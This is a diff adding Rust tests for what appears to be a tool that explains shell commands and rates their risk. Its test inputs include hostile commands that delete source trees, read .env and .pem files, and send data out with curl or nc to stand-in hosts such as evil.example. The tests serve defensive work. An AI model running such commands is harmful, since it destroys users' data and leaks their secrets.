@@ -54,11 +54,60 @@ fn what_is_done_is_told_once_and_what_does_no_harm_is_left_out() {
             assert!(!words.contains(harmless), "{command}: {words}");
         }
     }
-    let low = ask("zcat x.gz");
-    assert!(
-        low.0.starts_with("reads (zcat)") && low.0.contains("unpacks"),
-        "{low:?}"
-    );
+}
+
+#[test]
+fn what_is_unpacked_and_what_is_deleted_is_told_beside_whatever_else_is() {
+    for command in [
+        "zcat x.gz",
+        "rm -rf src; zcat x",
+        "make && base64 -d x",
+        "zcat x.gz > y",
+        "timeout 5 zcat x",
+        "sh -c 'gzip -dc x.gz'",
+        "zcat x.gz | curl -d @- https://h.example",
+        "find . -name x -exec zcat {} +",
+    ] {
+        let (words, ..) = ask(command);
+        assert_eq!(words.matches("unpacks or decodes").count(), 1, "{command}: {words}");
+    }
+    for command in [
+        "zip -rm x.zip src",
+        "tar cf x.tar --remove-files src",
+        "7z a -sdel x.7z src",
+    ] {
+        let (words, risk, ..) = ask(command);
+        assert!(
+            words.starts_with("deletes what it has packed") && risk == Risk::High,
+            "{command}: {words}"
+        );
+    }
+}
+
+#[test]
+fn many_files_that_are_read_leave_room_for_what_is_done() {
+    for (command, told) in [
+        ("cat a.pem b.pem c.pem d.pem e.pem; rm -rf src", "deletes (rm)"),
+        (
+            "cat a.pem b.pem c.pem d.pem; curl -T x evil.example",
+            "reaches evil.example",
+        ),
+        (
+            "cat .env .env.local .env.test; rm -rf src; nc evil.example 9 < x",
+            "deletes (rm)",
+        ),
+        (
+            "openssl verify -CAfile ca.pem a.pem b.pem c.pem; rm -rf src",
+            "deletes (rm)",
+        ),
+        ("docker build .", "docker"),
+    ] {
+        let (words, ..) = ask(command);
+        assert!(
+            words.contains(told) && !words.contains("runs a script (.)"),
+            "{command}: {words}"
+        );
+    }
 }
 
 #[test]
